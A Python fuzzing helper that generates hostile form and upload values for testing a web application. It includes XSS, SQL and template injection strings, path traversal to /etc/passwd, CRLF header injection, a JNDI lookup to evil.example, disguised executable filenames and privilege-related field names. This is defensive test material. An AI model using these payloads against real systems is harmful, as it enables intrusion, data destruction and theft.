"""Hostile values for form fields and uploads: what a careless paste, a broken client or an attacker may send."""

from __future__ import annotations

import re

from hypothesis import strategies as st

SCRIPT = '<script>alert("xss-prop")</script>'
ATTRIBUTE = '"><img src=x onerror=alert("xss-prop")>'
# What must never come back verbatim: markup the browser would run.
UNESCAPED = ('<script>alert("xss-prop")', "<img src=x onerror=")

HUGE = (
    "A" * 100_000,
    "ệ" * 50_000,  # 100 KB of UTF-8
    (SCRIPT + " ") * 2_800,
    "9" * 100_000,
)
INJECTION = (
    SCRIPT,
    ATTRIBUTE,
    f"Nguyễn {SCRIPT} Văn",
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "{{ 7*7 }}",
    "{% raw %}",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "javascript:alert(1)",
    "//evil.example/",
    "https://evil.example/login",
    "\r\nSet-Cookie: x=1",
    "${jndi:ldap://evil.example/a}",
)
UNICODE = (
    "Nguyễn Thị Hồng Nhung",
    "Nguye\u0302\u0303n",  # decomposed (NFD) Vietnamese
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",  # stacked combining marks
    "\u202eالعربية\u202c",  # right-to-left override
    "שלום",
    "\x00",
    "abc\x00def",
    "\ufeff",
    "\u200b\u200c\u200d",
    "\\ud800\\udfff",  # surrogates written out as text
    "😀👨‍👩‍👧‍👦🇻🇳",
    "\t\n\r\x0b\x0c",
    "\x1b[31m",
    "１２３",  # full-width digits
    "٣٫٥",  # Arabic-Indic digits
    "Ⅻ",
    "   ",
)
NUMBERS = (
    "0", "-0", "-1", "1", "-100", "101", "1000000", "9" * 40, "-" + "9" * 40, "1e309", "-1e309", "1e-400",
    "NaN", "nan", "inf", "-Infinity", "1,5", "1.5", "1.25", "0.05", "10.00001", "0x10", "1_000", "+5", "5.", ".5",
    "2147483648", "-2147483649", "9223372036854775808", "1e3", "−1",  # the last is a Unicode minus sign
)
DATES = (
    "31/02/2026", "29/02/2025", "00/00/0000", "32/01/2026", "01/13/2026", "1/1/1", "01/01/0001", "31/12/9999",
    "01/01/10000", "2026-13-45", "2026-02-30", "9999-12-31", "0000-01-01", "99999-01-01", "2026/02/03",
    "03-02-2026", "hôm nay", "01/01/2026 12:00", "-1/-1/-1", "٠١/٠١/٢٠٢٦",
)
INVALID_UTF8 = (b"\xff\xfe", b"\xed\xa0\x80", b"\xc3", b"abc\x80def", b"\xe1\xba")

FILENAMES = (
    "../../etc/passwd", "..\\..\\boot.ini", "a\x00.pdf", "", ".", "..", "con.pdf", ".htaccess", "x" * 300 + ".pdf",
    "Báo cáo tổng kết.pdf", "report.pdf.exe", "report.PDF", "thuyet minh.docx", "bang.xlsx", "nam.json",
    "<script>.pdf", "a/b/c.pdf", "/abs/path.pdf", "C:\\Users\\x\\minh chung.pdf",
)
FILE_CONTENTS = (
    b"",
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
    b"%PDF-1.4 truncated",
    b"PK\x03\x04" + b"\x00" * 60,  # the start of a zip (docx, xlsx) and nothing else
    b"PK\x05\x06" + b"\x00" * 18,  # an empty zip
    b"<html><script>alert(1)</script></html>",
    b"MZ\x90\x00\x03\x00\x00\x00",  # a Windows program
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 20,
    b"{}", b"[]", b"null", b'{"format": "tdkt-year/1"}',
    b"ma,ho,ten\n" + "Mã,Họ,Tên\n".encode() * 3,
    b"\xff\xfe\x00\x00" * 10,
)

_VIETNAMESE = re.compile("[àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ]", re.IGNORECASE)


def has_vietnamese(text: str) -> bool:
    return bool(_VIETNAMESE.search(text))


def text_values():
    return st.one_of(
        st.just(""),
        st.sampled_from(INJECTION),
        st.sampled_from(UNICODE),
        st.sampled_from(NUMBERS),
        st.sampled_from(DATES),
        st.sampled_from(INVALID_UTF8),
        st.text(max_size=40),
        st.integers().map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.lists(st.sampled_from(INJECTION + UNICODE + NUMBERS), min_size=2, max_size=4).map("".join),
    )


def values_for(info):
    """One value for a field: hostile most of the time, sometimes what the form expects (so that a hostile value in
    another field is reached past the first check)."""
    plausible = [value for value in (info.current, *info.choices) if value is not None]
    if info.name.endswith("version"):  # the records start at version 1: a matching one gets past the stale check
        plausible += ["1", "2"]
    options = [text_values()]
    if plausible:
        options.append(st.sampled_from(plausible))
    if info.kind == "bool":
        options.append(st.sampled_from(("y", "on", "true", "false", "0", "")))
    return st.one_of(*options)


def upload():
    return st.tuples(st.one_of(st.sampled_from(FILE_CONTENTS), st.binary(max_size=512)), st.sampled_from(FILENAMES))


extra_names = st.one_of(
    st.sampled_from(("id", "person_id", "account_id", "is_admin", "version", "csrf_token", "state", "review_state",
                     "approved_by_id", "department_id", "year", "month", "__proto__", "next", "_method"),),
    st.text(min_size=1, max_size=20),
)
